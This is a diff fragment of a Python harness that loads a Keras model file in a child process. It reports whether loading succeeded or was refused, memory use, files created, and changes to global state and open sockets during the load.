+        "soft_device_placement": tf.config.get_soft_device_placement(),
+        "op_determinism": framework_config.is_op_determinism_enabled(),
+        "keras_safe_mode": serialization_lib.in_safe_mode(),
+        "keras_floatx": keras.config.floatx(),
+        "keras_epsilon": repr(keras.config.epsilon())[:60],
+        "keras_policy": keras.config.dtype_policy().name,
+        "numpy_errstate": str(sorted(np.geterr().items())),
+        "environment": len(os.environ),
+        "sockets": sockets,
+    }
+
+
+def _readlink(path: str) -> str:
+    try:
+        return os.readlink(path)
+    except OSError:
+        return ""
+
+
+def _message_head(error: BaseException) -> str:
+    """The first informative line of an error (Keras wraps errors of `call`)."""
+    import re
+
+    text = re.sub(r"\x1b\[[0-9;]*m", "", str(error))
+    lines = [line.strip() for line in text.splitlines() if line.strip()]
+    lines = [line for line in lines if not line.startswith("Exception encountered when")] or lines
+    return (lines or [""])[0][:300]
+
+
+def _child_main(path: str, preload: list[str]) -> None:
+    import importlib
+    import traceback
+
+    sys.path.insert(0, str(_HERE))
+    import keras  # noqa: F401
+    import keras_graft  # noqa: F401
+
+    for entry in preload:  # "module" or "module:function" (called)
+        module, _, function = entry.partition(":")
+        imported = importlib.import_module(module)
+        if function:
+            getattr(imported, function)()
+    before = _state()
+    files_before = set(os.listdir("."))
+    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    report = {"outcome": "loaded", "exception": None, "message": None}
+
+    def emit(seconds):
+        after = _state()
+        report.update(
+            seconds=round(seconds, 2),
+            rss_before_load_mb=round(rss_before / 1024),
+            peak_rss_mb=round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024),
+            state_changes={k: [before[k], after[k]] for k in before if before[k] != after[k]},
+            files_created=sorted(set(os.listdir(".")) - files_before - {".stderr"}),
+        )
+        sys.stdout.write(_MARKER + json.dumps(report, default=str) + "\n")
+        sys.stdout.flush()
+
+    start = time.perf_counter()
+    try:
+        keras.models.load_model(path)
+    except BaseException as error:  # noqa: BLE001 - report everything, incl. RecursionError
+        report.update(
+            outcome="refused",
+            exception=type(error).__name__,
+            message=_message_head(error),
+        )
+        traceback.print_exc()
+    emit(time.perf_counter() - start)
+
+
+if __name__ == "__main__" and len(sys.argv) >= 3 and sys.argv[1] == "--child":
+    _child_main(sys.argv[2], sys.argv[3:])
